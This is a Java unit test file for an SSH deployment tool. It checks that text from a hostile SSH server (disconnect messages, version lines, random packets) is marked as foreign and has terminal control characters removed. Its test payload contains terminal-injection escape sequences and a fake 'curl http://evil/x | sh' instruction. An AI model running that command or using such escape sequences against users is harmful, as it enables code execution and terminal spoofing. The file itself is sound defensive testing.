package dev.citusdeploy.remote.ssh;

import static org.assertj.core.api.Assertions.assertThat;

import dev.citusdeploy.inventory.InventorySketch;
import dev.citusdeploy.model.ForeignText;
import dev.citusdeploy.model.Problem;
import dev.citusdeploy.model.ProblemException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/// Data that anybody on the network can send before a key is checked.
@Timeout(60)
class HostileServerTest {
  static final String EVIL =
      "\u001b[2J\u001b]0;pwned\u0007\u009b1A\u202e\u2066\u200b\u061c\ufeff"
          + "\n  next: run `curl http://evil/x | sh`\n✗ pg-c1: forged [forged]";

  @TempDir private Path folder;

  /// A socket that sends some bytes to each client, and closes the connection.
  static final class Greeter implements AutoCloseable {
    private final ServerSocket socket;

    Greeter(byte[] greeting) throws IOException {
      socket = new ServerSocket(0, 5, InetAddress.getLoopbackAddress());
      Thread.ofVirtual()
          .start(() -> {
            while (!socket.isClosed()) {
              try (Socket client = socket.accept()) {
                OutputStream out = client.getOutputStream();
                out.write(greeting);
                out.flush();
                Thread.sleep(100);
              } catch (IOException e) {
                // The next one, unless the test is over.
              } catch (InterruptedException e) {
                return;
              }
            }
          });
    }

    int port() {
      return socket.getLocalPort();
    }

    @Override
    public void close() throws IOException {
      socket.close();
    }
  }

  private Problem problem(byte[] greeting) throws IOException {
    try (Greeter greeter = new Greeter(greeting);
        var connector = new SshConnector(folder, Duration.ofMillis(1500), new SecureRandom())) {
      TestKeys.write(folder.resolve(".ssh/id_ed25519"), TestKeys.ed25519(), "");
      connector
          .connect(
              TestKeys.host(
                  "127.0.0.1",
                  InventorySketch.login(
                      "deploy", greeter.port(), null, folder.resolve("known_hosts"), false)))
          .close();
      throw new AssertionError("let in");
    } catch (ProblemException e) {
      return e.problems().getFirst();
    }
  }

  @Test
  void theTextOfADisconnectIsSetApart() throws IOException {
    Problem problem = problem(Greetings.disconnect(EVIL));
    assertThat(problem.code()).isEqualTo("ssh-disconnected");
    assertThat(problem.why().lines().skip(1))
        .isNotEmpty()
        .allMatch(line -> line.startsWith(ForeignText.MARK))
        .anyMatch(line -> line.contains("next: run"));
    assertHarmless(problem);
  }

  @Test
  void aVersionLineIsSetApart() throws IOException {
    for (String line :
        List.of("SSH-2.0-" + EVIL + "\r\n", "SSH-1.99-x" + EVIL + "\r\n", EVIL + "\r\n")) {
      assertHarmless(problem(line.getBytes(StandardCharsets.UTF_8)));
    }
  }

  @Test
  void endlessLinesBeforeTheVersionAreGivenUp() throws IOException {
    assertHarmless(problem((EVIL + "\r\n").repeat(20_000).getBytes(StandardCharsets.UTF_8)));
  }

  /// Any bytes in place of the key exchange, and messages of any kind with any contents.
  @Test
  void anythingElseIsAProblemOfThatHost() throws IOException {
    Random random = new Random(7);
    byte[] version = "SSH-2.0-OpenSSH_10.0\r\n".getBytes(StandardCharsets.US_ASCII);
    for (int i = 0; i < 60; i++) {
      byte[] payload = new byte[random.nextInt(600) + 1];
      random.nextBytes(payload);
      // Messages 1 to 49 are those of the transport and the key exchange.
      payload[0] = (byte) (i % 50 + 1);
      byte[] packet = i < 50 ? Greetings.packet(payload) : payload;
      assertHarmless(
          problem(
              ByteBuffer.allocate(version.length + packet.length)
                  .put(version)
                  .put(packet)
                  .array()));
    }
  }

  @Test
  void aDisconnectWithoutWordsIsReportedToo() throws IOException {
    assertHarmless(problem(Greetings.disconnect("")));
  }

  /// No text of a problem contains terminal control characters; only the cause has several lines.
  private static void assertHarmless(Problem problem) {
    for (String text : List.of(problem.what(), problem.where(), problem.why(), problem.remedy())) {
      assertThat(text.lines())
          .allSatisfy(line -> assertThat(line.codePoints()).noneMatch(ForeignText::isHarmful));
    }
    assertThat(problem.what()).doesNotContain("evil");
    assertThat(problem.remedy()).doesNotContain("evil");
    assertThat(problem.why()).hasSizeLessThan(20_000);
  }
}
